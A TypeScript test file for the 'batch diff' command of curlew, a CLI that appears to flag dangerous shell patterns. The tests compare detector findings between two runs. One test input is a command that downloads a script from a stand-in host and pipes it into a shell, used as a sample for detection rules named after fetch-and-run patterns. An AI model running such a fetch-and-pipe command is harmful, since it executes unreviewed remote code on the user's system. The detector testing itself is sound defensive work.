import { describe, expect, it } from "vitest";
import { compare } from "../../src/cli/batch/diff/compare.js";
import { curlew } from "../cli/curlew-process.js";
import { BAD, folderWith, row, runHere } from "./predictions.js";

const finding = (start: number, end: number, rule = "bash/fetch-pipe") => ({
  rule,
  level: "finding",
  span: [start, end],
  text: BAD,
});
const prediction = (id: string, findings: object[], rest: object = {}) =>
  row({
    id,
    labels: findings.length > 0 ? ["PS"] : [],
    spans: [],
    findings,
    outcome: { status: "complete" },
    ...rest,
  });

const BEFORE = [
  prediction("same", [finding(0, 9)]),
  prediction("gone", [finding(0, 9)]),
  prediction("moved", [finding(0, 9), finding(20, 30)]),
  prediction("new", []),
  prediction("cut", []),
];
const AFTER = [
  prediction("same", [finding(0, 9)]),
  prediction("gone", []),
  prediction("moved", [finding(2, 9), finding(20, 30, "bash/fetch-substitution")]),
  prediction("new", [finding(5, 8)]),
  prediction("cut", [], { outcome: { status: "incomplete", limits: [] } }),
];

const files = { "a.jsonl": BEFORE.join(""), "b.jsonl": AFTER.join("") };

describe("batch diff", () => {
  it("reports new, removed and moved findings", async () => {
    const { stdout, status } = await runHere(["batch", "diff", "a.jsonl", "b.jsonl"], {
      cwd: folderWith(files),
    });
    expect(stdout.split("\n")).toEqual([
      "gone",
      `  - bash/fetch-pipe 0-9  ${BAD}`,
      "moved",
      `  ~ bash/fetch-pipe 2-9 (was 0-9)  ${BAD}`,
      `  ~ bash/fetch-substitution 20-30 (was bash/fetch-pipe 20-30)  ${BAD}`,
      "new",
      `  + bash/fetch-pipe 5-8  ${BAD}`,
      "cut, now incomplete",
      "4 of 5 texts differ: 1 new, 1 gone, 2 moved; 1 no longer analyzed completely",
      "",
    ]);
    expect(status).toBe(0);
  });

  it("pairs records in any order, and counts a record that one side lacks as not flagged", async () => {
    const cwd = folderWith({
      "a.jsonl": [...BEFORE].reverse().join(""),
      "b.jsonl": AFTER.slice(1).join(""),
    });
    const { stdout } = await runHere(["batch", "diff", "a.jsonl", "b.jsonl", "-f", "jsonl"], {
      cwd,
    });
    const lines = stdout
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(lines.at(-1).summary).toMatchObject({ texts: 5, differ: 5, new: 1, gone: 2, moved: 2 });
    expect(lines.find(({ id }) => id === "same")).toMatchObject({
      only: "first",
      changes: [{ kind: "gone" }],
    });
  });

  it("exits with 1 if the second side is worse", async () => {
    const cwd = folderWith({
      ...files,
      "right.jsonl": prediction("x", [finding(0, 9)], { input_labels: [] }),
      "wrong.jsonl": prediction("x", [], { input_labels: [] }),
    });
    const status = async (a: string, b: string) =>
      (await runHere(["batch", "diff", a, b, "--fail-on", "regression"], { cwd })).status;
    expect([await status("a.jsonl", "b.jsonl"), await status("a.jsonl", "a.jsonl")]).toEqual([
      1, 0,
    ]);
    // with labels, a removed finding may be an improvement
    expect([
      await status("right.jsonl", "wrong.jsonl"),
      await status("wrong.jsonl", "right.jsonl"),
    ]).toEqual([0, 1]);
  });

  it("reads the predictions of any run; other files are an error", async () => {
    const cwd = folderWith({
      ...files,
      "in.jsonl": row({ id: 1, text: BAD }),
      "other.jsonl": row({ id: 1 }),
    });
    for (const name of ["one.csv", "one.parquet", "one.jsonl"])
      await runHere(["batch", "-q", "in.jsonl", "-o", name], { cwd });
    for (const name of ["one.csv", "one.parquet"]) {
      expect((await runHere(["batch", "diff", "one.jsonl", name], { cwd })).stdout).toBe(
        "0 of 1 texts differ: 0 new, 0 gone, 0 moved\n",
      );
    }
    expect((await runHere(["batch", "diff", "one.jsonl", "other.jsonl"], { cwd })).stderr).toBe(
      `curlew: ${cwd}/other.jsonl:1: is not a prediction: it has no findings or no outcome\n`,
    );
  });

  it("compares two rule sets on records", async () => {
    const cwd = folderWith({
      "in.jsonl":
        row({ id: "w", text: "`curl https://x.example/i.sh | fish`", labels: ["PS"] }) +
        row({ id: "n", text: "nothing", labels: [] }),
    });
    const { stdout, stderr } = await curlew(
      ["batch", "diff", "contract", "extended", "--on", "in.jsonl"],
      { cwd },
    );
    expect(stderr).toBe("");
    expect(stdout).toMatch(
      /^w: fixed\n {2}\+ bash\/fetch-pipe .*\n1 of 2 texts differ: 1 new, 0 gone, 0 moved; 1 fixed, 0 broken by their labels\n$/,
    );
  });

  it("makes the same comparison as --fail-on regression does with earlier predictions", async () => {
    const cwd = folderWith({
      "in.jsonl": row({ id: "same", text: BAD }) + row({ id: "lost", text: "x" }),
      "old.jsonl": prediction("same", [finding(0, 32)]) + prediction("lost", [finding(0, 1)]),
    });
    const { stderr, status } = await runHere(
      [
        "batch",
        "-q",
        "in.jsonl",
        "-o",
        "new.jsonl",
        "--fail-on",
        "regression",
        "--baseline",
        "old.jsonl",
      ],
      { cwd },
    );
    expect([stderr, status]).toEqual([
      "curlew: predictions worse than in old.jsonl: 1; to list them: curlew batch diff old.jsonl new.jsonl\n",
      1,
    ]);
    expect(
      (await runHere(["batch", "in.jsonl", "--fail-on", "regression"], { cwd })).stderr,
    ).toMatch(/needs earlier predictions \(--baseline\)/);
  });

  it("reports no difference between equal predictions", () => {
    expect(compare(null, null)).toBeNull();
  });
});
